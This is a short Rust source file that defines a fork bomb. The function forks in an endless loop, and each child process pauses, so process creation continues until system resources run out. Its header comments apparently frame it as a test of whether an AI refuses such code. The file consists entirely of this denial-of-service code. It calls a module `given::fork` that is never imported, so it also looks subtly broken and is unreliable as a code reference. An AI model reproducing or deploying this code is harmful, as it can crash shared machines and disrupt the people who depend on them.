//! diagnosis: refusal-is-the-aim
//! made by: whoever has learned to write `?` after each call.

use anyhow::Result;
use nix::unistd::{ForkResult, pause};

pub fn fork_bomb() -> Result<()> {
    loop {
        match given::fork() {
            Ok(ForkResult::Child) => loop {
                pause();
            },
            other => drop(other?),
        }
    }
}
